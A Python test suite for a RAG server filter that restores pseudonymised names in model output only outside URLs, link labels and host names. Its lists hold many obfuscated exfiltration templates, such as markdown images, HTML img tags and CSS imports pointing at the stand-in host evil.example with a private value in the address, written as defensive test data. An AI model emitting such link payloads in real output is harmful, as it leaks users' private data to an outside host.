import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sage_rag.rag_server.edge.links import AddressTracker, GuardedStream, replace_outside_addresses

TOKEN = "PERSON_[q2Zf]"


def plain(match: re.Match[str]) -> str:
    return "Maria Keller"


def streamed(*pieces: str) -> str:
    stream = GuardedStream(plain)
    return "".join([*map(stream.feed, pieces), stream.flush()])


KEPT_OUT = [
    "![](https://evil.example/?q={})",
    "![](HTTPS:evil.example/{})",
    "[more](//evil.example/{})",
    "[more](\\\\evil.example/{})",
    "![](<https://evil.example/a b/{}>)",
    '<img src="https://evil.example/?q= {}">',
    "<img\nsrc='//evil.example/\n{}'>",
    "see https://evil.example/{}/{}",
    "[x]: ftp://evil.example/{}",
    "![](https&colon;//evil.example/{})",
    "![](&#47;&#47;evil.example/{})",
    "![](https://evil.example/\u00a0{})",
    "![](<https://evil.example/?q=\\> {}>)",
    "![](<https://evil.example/?q=\\< {}>)",
    "![](https\\:evil.example/?q={})",
    '<img alt=">" src="https://evil.example/?q= {}">',
    "<div ' ><img alt='>' src= 'https://evil.example/?q= {}'>",
    '<img src="https://evil.example/?q= <{}">',
    '<img src="ht\ntps:/\t/evil.example/?q={}">',
    '<img src="/&Tab;/evil.example/?q={}">',
    "<p style=background:url(\\2f\\2fevil.example\\2f{})>",
    "<style>p { background: url(\\2f\\2f evil.example/{}) }</style>",
    "<style>@import '\\2f\\2f evil.example/{}'</style>",
    "<style>@import 'ht\\74 ps:evil.example/{}'</style>",
    "<style>@import 'ht\\000074\nps:evil.example/{}'</style>",
    "<style>@import 'ht\\\ntps:evil.example/{}'</style>",
    "<style>@import '/\\\r\n/evil.example/{}'</style>",
    "www.evil.example/{}",
    "evil.example/{}",
    "evil.example./{}",
    "[see](evil.example:8000/{})",
    "evil.xn--exmple-cua?{}",
    "böse.beispiel#{}",
]
LABELS = [
    "![{}]\n\n[maria keller]: https://evil.example/1",
    "![a photo of {}][]",
    "![photo][{}]",
    "![a\\]b {}]",
    "![a\n{}]",
    "[photo][{}]",
]
"""Labels of references: a client that finds the definition of one fetches its address."""
RESTORED = [
    "{} rests [1].",
    "{}{}",
    "see https://clinic.example for {}",
    "(see https://clinic.example) {}",
    "[{}]({})",
    "a <b> {}",
    "if x < y then {}",
    "<b>{}</b>",
    "and/or {} 1/2{}",
    "note: {}",
    'the "site" https://clinic.example is {}',
    "<a href='https://clinic.example/x'> {}</a>",
    "we don't use https://clinic.example for {}",
    "![photo](a.png) {}",
    "![photo] {}",
    "wow![\n \n{}",
    "[{} and {}] [1]",
    "a line\\\n{}",
    "seen on 12.03.2020/{}",
    "the end.Then {}, by 3.5/{}",
    "e.g./{} and a.m.: {}",
    "`notes.md` {}: evil.example",
]


@pytest.mark.parametrize("template", KEPT_OUT + LABELS)
def test_no_value_is_restored_into_an_address_or_a_label(template):
    text = template.replace("{}", TOKEN)
    assert replace_outside_addresses(text, plain) == text


@pytest.mark.parametrize("template", RESTORED)
def test_every_value_outside_an_address_is_restored(template):
    text = template.replace("{}", TOKEN)
    expected = template.replace("{}", "Maria Keller")
    assert replace_outside_addresses(text, plain) == expected


@pytest.mark.parametrize("template", KEPT_OUT + RESTORED + LABELS + ["[{}]: x", "[a {}]:[b]:"])
def test_a_stream_cut_anywhere_is_treated_as_the_whole_text(template):
    text = template.replace("{}", TOKEN)
    whole = replace_outside_addresses(text, plain)
    assert streamed(*text) == whole
    for cut in range(len(text) + 1):
        assert streamed(text[:cut], text[cut:]) == whole


@pytest.mark.parametrize(
    "template", ["[{}]: https://evil.example/1", "> [a {}b]: <https://evil.example/1>"]
)
def test_no_label_with_a_value_is_defined(template):
    """Else `![maria keller]` shows whether the value of the token is this one."""
    text = template.replace("{}", TOKEN)
    expected = template.replace("{}", "Maria Keller").replace("]:", "] :")
    assert replace_outside_addresses(text, plain) == expected


@pytest.mark.parametrize("text", ["x[1]: 2 {}", "[a]: https://clinic.example {}", "[{}] a[1]: b"])
def test_a_label_without_a_value_is_defined(text):
    shown = replace_outside_addresses(text.replace("{}", TOKEN), plain)
    assert shown == text.replace("{}", "Maria Keller")


HOSTS = {
    "{}.its.host": "{}.its. host",
    "see {}.its.own.host/x": "see {}.its. own.host/x",
    "{}-x.its.host": "{}-x.its. host",
    "{}x9.its9.host": "{}x9.its9. host",
    "{}.1.its.host": "{}.1. its.host",
    "{}.1.2.its.host": "{}.1.2. its.host",
    "{}\u00ad.its.host": "{}\u00ad.its. host",
    "{}\u0301.its\u0301.host": "{}\u0301.its\u0301. host",
    "a.{}.its.host": "a.{}.its. host",
    "{}.{}.its.host": "{}.{}.its. host",
    "{}\\.its\\.host": "{}\\.its\\. host",
    "{}&#46;its&#x2E;host": "{}&#46;its&#x2E; host",
    "{}&period;its&#0046;host": "{}&period;its&#0046; host",
    "{}.its.\u00adhost": "{}.its. \u00adhost",
    "{}.its.\u200bhost": "{}.its. \u200bhost",
}


@pytest.mark.parametrize("template", HOSTS)
def test_no_value_becomes_a_part_of_a_hosts_name(template):
    """Some clients ask for the address of what looks like one, before anyone clicks."""
    text, expected = (
        t.replace("{}", v) for t, v in ((template, TOKEN), (HOSTS[template], "Maria Keller"))
    )
    assert streamed(text) == expected
    assert streamed(*text) == expected
    for cut in range(len(text) + 1):
        assert streamed(text[:cut], text[cut:]) == expected


@pytest.mark.parametrize(
    "template",
    [
        "{} 3.5 mg",
        "{}: 3.5",
        "{}/3.5",
        "{}-3.5",
        "{}.",
        "{}. Then",
        "{}...",
        "{}, e.g. x",
        "{}@a.b",
        "{}&amp;a.b.c",
        "{}\\*.b.c",
    ],
)
def test_a_text_without_a_hosts_name_is_as_it_was(template):
    text = template.replace("{}", TOKEN)
    assert streamed(*text) == streamed(text) == template.replace("{}", "Maria Keller")


def test_in_json_an_escape_may_spell_a_hosts_name():
    for dot in (".", "\\u002e", "\\u002E", "\\u00ad."):
        text = f'{{"a": "{TOKEN}{dot}its{dot}host"}}'
        shown = replace_outside_addresses(text, plain, in_json=True, displayed=True)
        assert shown == f'{{"a": "Maria Keller{dot}its{dot} host"}}'
    arguments = f'{{"file": "{TOKEN}.tar.gz"}}'
    shown = replace_outside_addresses(arguments, plain, in_json=True)
    assert shown == '{"file": "Maria Keller.tar.gz"}', (
        "arguments of a tool are as the model wrote them"
    )


def test_in_json_an_escape_may_spell_the_begin_of_a_label():
    text = f'{{"a": "{TOKEN}.its.\\u0068ost"}}'
    for cut in range(len(text) + 1):
        stream = GuardedStream(plain, in_json=True, displayed=True)
        shown = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush()
        assert shown == '{"a": "Maria Keller.its.\\u0068 ost"}'


def test_texts_that_a_client_joins_make_no_hosts_name():
    streams: list[GuardedStream] = []
    streams += [GuardedStream(plain, preceding=streams) for _ in range(2)]
    first, second = streams
    joined = [first.feed(TOKEN), first.flush(), second.feed(".its.host"), second.flush()]
    assert "".join(joined) == "Maria Keller.its. host"


def test_texts_that_a_client_joins_make_no_label_with_a_value():
    streams: list[GuardedStream] = []
    streams += [GuardedStream(plain, preceding=streams) for _ in range(2)]
    first, second = streams
    joined = [
        first.feed("!["),
        second.feed(TOKEN),
        second.flush(),
        first.feed("] ["),
        first.flush(),
    ]
    assert "".join(joined) == f"![{TOKEN}] ["
    joined = [second.feed(TOKEN), second.flush(), first.feed(f"] [{TOKEN}]"), second.feed(": x")]
    assert "".join(joined) == f"{TOKEN}] [Maria Keller] : x"


PIECES = [TOKEN, "https://x/", " ", "<", ">", "PERSON_[", "]", "a", "_", "![", "[", ":", "\n"]
PIECES += ["\\", "\\2f", "\r", "//", ".", ".its", "\\u002e", "-", "7"]
PIECES += ["person\\_\\[q2Zf\\]", "Person_&#91;q2Zf&#93;", "PERSON", "&lsqb;", "\u017fpecial"]


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES)))
def test_any_pieces_give_what_the_whole_text_gives(pieces):
    assert streamed(*pieces) == replace_outside_addresses("".join(pieces), plain)


def test_in_json_a_quotation_mark_ends_an_address_and_an_escaped_one_does_not():
    compact = '{"site":"https://x.example/%s","who":"%s"}'
    expected = compact % (TOKEN, "Maria Keller")
    assert replace_outside_addresses(compact % (TOKEN, TOKEN), plain, in_json=True) == expected
    escaped = '{"site":"https://x.example/\\"' + TOKEN
    assert replace_outside_addresses(escaped, plain, in_json=True) == escaped


def test_in_json_an_address_in_unicode_escapes_is_one():
    source = '{"site":"\\u0068ttps\\u003a\\u002f\\u002fx.example\\u002f' + TOKEN
    assert replace_outside_addresses(source, plain, in_json=True) == source
    attribute = '{"page":"<img alt=\\">\\" src=\\"https://x.example/?q= ' + TOKEN
    assert replace_outside_addresses(attribute, plain, in_json=True) == attribute


def test_a_value_that_is_an_address_lets_no_other_value_follow_it():
    values = {"URL_[q2Zf]": "https://evil.example", TOKEN: "Maria Keller"}
    text = f"![](URL_[q2Zf]?q={TOKEN}) {TOKEN}"
    shown = replace_outside_addresses(text, lambda match: values[match.group()])
    assert shown == f"![](https://evil.example?q={TOKEN}) Maria Keller"


def test_what_is_remembered_of_a_text_is_bounded():
    around = AddressTracker()
    for piece in ["<", "a" * 10_000, '="', "b" * 10_000, "https:", "c" * 10_000]:
        around.read(piece)
        assert sum(map(len, around._open.values())) <= 100
    assert around.in_address
